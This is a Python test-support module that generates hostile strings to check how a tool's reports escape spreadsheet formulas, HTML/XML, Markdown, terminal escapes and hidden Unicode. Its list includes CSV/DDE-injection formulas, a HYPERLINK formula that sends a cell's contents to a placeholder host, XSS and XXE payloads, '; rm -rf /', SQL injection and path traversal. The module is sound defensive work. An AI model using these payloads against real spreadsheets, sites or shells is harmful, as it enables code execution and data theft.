"""Hostile text by rule, and what keur's reports are to make of it, said a second time and independently of keur's own escapers."""
import itertools
import re

PIECES = [
    # what spreadsheets run
    "=1+1", "=HYPERLINK(\"http://e.example/?\"&A1,\"see\")", "+cmd|' /C calc'!A0", "-2+3+cmd|' /C calc'!A0", "@SUM(1+1)*cmd|' /C calc'!A0",
    "\t=1+1", "\r=1+1", "\n=1+1", " =1+1", "\u00a0=1+1", "'=1+1", "''=1+1", "\"=1+1\"", ";=1+1", "a;=1+1;+2", "a;'=1", "\uff1d1+1", "\uff0b1",
    "\uff0d1", "\uff20SUM(1)", "=", "+", "-", "@", "-1", "1-1", "a=b", "DDE(\"cmd\";\"/C calc\")",
    # what browsers and XML readers run or end at
    "<script>alert(1)</script>", "</script><script>alert(1)</script>", "<img src=x onerror=alert(1)>", "\"><svg onload=alert(1)>",
    "javascript:alert(1)", "<!--", "-->", "<![CDATA[x", "]]>", "]]&gt;", "&lt;", "&amp;amp;", "&#0;", "&#x1b;", "<?xml version=\"1.0\"?>",
    "<!DOCTYPE x [<!ENTITY y SYSTEM \"file:///etc/passwd\">]>&y;", "</t></is></c><c><f>1</f></c>", "<f>1+1</f>", "\" onclick=\"x", "' onclick='x",
    # what terminals obey
    "\x1b[31mred\x1b[0m", "\x1b]0;title\x07", "\x1b]8;;http://e.example\x1b\\link\x1b]8;;\x1b\\", "\x9b31m", "\x07", "\x08\x08\x08", "\x0c", "\x0b",
    "\x7f", "\x01\x02\x03", "\x85", "a\rb", "a\nb", "a\r\nb", "a\n\nb", "a\tb",
    # what turns or hides text
    "\u202egnp.exe", "a\u202db\u202c", "\u2066\u2067\u2069", "\u200b", "a\u200bb", "\u200d", "\ufeffa", "\u2028", "\u2029", "\u00ad", "\u061c", "\u180e",
    "\U000e0041\U000e007f", "\ufff9a\ufffab\ufffb", "\ufffe", "\uffff", "\ufffd", "\U0010ffff", "\ud7ff", "\ue000", "e\u0301", "\u0430mf-1",
    "\U0001f4e1", "\u4e2d\u6587", "\u05e9\u05dc\u05d5\u05dd", "\u0645\u0631\u062d\u0628\u0627",
    # Markdown
    "[a](http://e.example)", "![a](http://e.example/i.png)", "<http://e.example>", "http://e.example", "www.e.example", "a@e.example",
    "*a*", "**a**", "_a_", "~~a~~", "`a`", "``a``", "```\na\n```", "# a", "- a", "1. a", "> a", "a | b | c", "|", "\\|", "\\", "\\\\", "a\\", "[x]: http://e.example",
    "[^1]", "$a$", "{{ insert: param, x }}", "{0}", "{{0}}", "{", "}", "[x](1)", "](", "[a]", "](http://e.example)", "---", "===", "***", "&copy;", ":smile:", "@team", "#12", "!", "^a^",
    # DOT
    "\" URL=\"http://e.example\"", "\"]; x [label=\"", "a\\nb", "a\\lb", "\\N", "\\G", "\\\"", "a\\\\\"b", "<b>a</b>", "<<b>a</b>>", "a -> b", "digraph {}", "}", "//", "/* */", "# x",
    # JSON, CSV and the rest
    "\"", "'", "\"\"", "a\"b", "a,b", "a;b", ",", ";", "a|b", "\\u0041", "\\x41", "\\u{41}", "\\u{202E}", "\\n", "\\\"", "_x0041_", "_x000D_", "_x005F_", "_x0041_x0042_", "_xzzzz_", "__x0041_",
    "null", "true", "NaN", "1e309", "0x10", "1,000", "2026-11-01", "yes", "~", "%s%s%n", "%00", "%2e%2e%2f", "../../etc/passwd", "C:\\x", "//e.example/x", "file:///etc/passwd",
    "$(id)", "`id`", "; rm -rf /", "' OR 1=1 --", "{\"a\": 1}", "[1]", "a b", " a", "a ", "  ", "a  b", ".", "..", "-", "--", "/", "a/b", "a:b", "a[b]", "a[b].c", "#", "?x=1&y=2",
    # templates, patterns, anchors: what a program or a reader of another language would fill in
    "{name}", "{supplier}", "{{supplier}}", "${HOME}", "%(name)s", "%1$s", "%-999999d", "{% raw %}", "#{1+1}", "&a", "*a", "!!python/object:x", "!include /etc/passwd",
    "<<: *a", "a: b", "? a", "key: [", "%YAML 1.2", "\\Q.*\\E", "(a+)+$", "((((((((((", "SELECT 1; --", "\\\\server\\share", "con.txt", "a" + "/.." * 40,
    # more for terminals, and for what copies from them
    "\x1b]52;c;aGk=\x07", "\x1b[2J\x1b[H", "\x1bP+q\x1b\\", "\x1b[?1049h", "\x9d8;;x\x9c", "\x0e\x0f",
    # many marks on one letter, text as long as an id may be when a frame has it twice, letters that look alike
    "e" + "\u0301" * 80, "\u0915\u094d" * 60, "\U0001f468\u200d\U0001f469\u200d\U0001f467", "x" * 480, "\u4e2d" * 160, "w" + "\u200b" * 100, "\u202e" * 60,
    "\u0430\u0435\u043e", "\uff28\uff30", "\ufe0f", "\U0001d7d9", "\ufdd0", "\U0001ffff", "\U000e0100", "\u034f", "\u3164", "\u2800", "a\u115fb\u1160c", "\u17b4\u17b5", "\u180bx\u180f",
    "\uffa0", "x\ufe00y", "\U000e01ef", "\ufff0", "\U0001bca0", "\U0001d173", "\U00016fe4", "\U0001d159", "\U00013430",
    "x" * 300, "\u00e9" * 200, "<" * 100, "=" * 50, "\"" * 33, "\\" * 33,
]
PIECES = list(dict.fromkeys(PIECES))
FRAMES = ["%s", "a%s", "%sz", "x %s y", "(%s)", "\"%s\"", "%s|%s", "a/%s"]


def naughty(count=None):
    """Different strings: every piece as it is, then in frames. None: all of them; else so many, from everywhere."""
    seen = dict.fromkeys(PIECES)
    for frame, piece in itertools.product(FRAMES[1:], PIECES):
        seen.setdefault(frame.replace("%s", piece))
    texts = list(seen)
    if not count:
        return texts
    # Each piece by itself first; what room is left, framed ones.
    if count > len(PIECES):
        framed = texts[len(PIECES):]
        return PIECES + [framed[i * len(framed) // (count - len(PIECES))] for i in range(count - len(PIECES))]
    return [PIECES[i * len(PIECES) // count] for i in range(count)]


# Controls, what Unicode calls default ignorable, what is drawn blank, and what is no character.
HIDDEN = [(0x00, 0x1F), (0x7F, 0x9F), (0xAD, 0xAD), (0x34F, 0x34F), (0x61C, 0x61C), (0x115F, 0x1160), (0x17B4, 0x17B5), (0x180B, 0x180F),
          (0x200B, 0x200F), (0x2028, 0x202E), (0x2060, 0x206F), (0x2800, 0x2800), (0x3164, 0x3164), (0xFDD0, 0xFDEF), (0xFE00, 0xFE0F), (0xFEFF, 0xFEFF),
          (0xFFA0, 0xFFA0), (0xFFF0, 0xFFFB), (0x13430, 0x1343F), (0x16FE4, 0x16FE4), (0x1BCA0, 0x1BCA3), (0x1D159, 0x1D159),
          (0x1D173, 0x1D17A), (0xE0000, 0xE0FFF)] + [(plane + 0xFFFE, plane + 0xFFFF) for plane in range(0, 0x110000, 0x10000)]


HIDES = re.compile("[" + "".join(f"\\U{first:08x}-\\U{last:08x}" for first, last in HIDDEN) + "]")


def hidden(text):
    """What of it people cannot see."""
    return set(HIDES.findall(text))


def visible(text):
    return HIDES.sub(lambda found: "\\u{%X}" % ord(found[0]), text)


def runs(text):
    """Whether a spreadsheet that gets this as a cell would take it for a formula."""
    return text.lstrip(" '\"\u00a0\u3000")[:1] in tuple("=+-@\uff1d\uff0b\uff0d\uff20")


def active(cell):
    """Whether one does so with what stands in a file."""
    return not cell.startswith("'") and runs(cell)


def unguarded(cell):
    """A cell without the apostrophes that keep it from being run."""
    parts, out = cell.split(";"), []
    for i, part in enumerate(parts):
        rest = ";".join(parts[i:])
        out.append(part[1:] if rest.startswith("'") and runs(rest[1:]) else part)
    return ";".join(out)
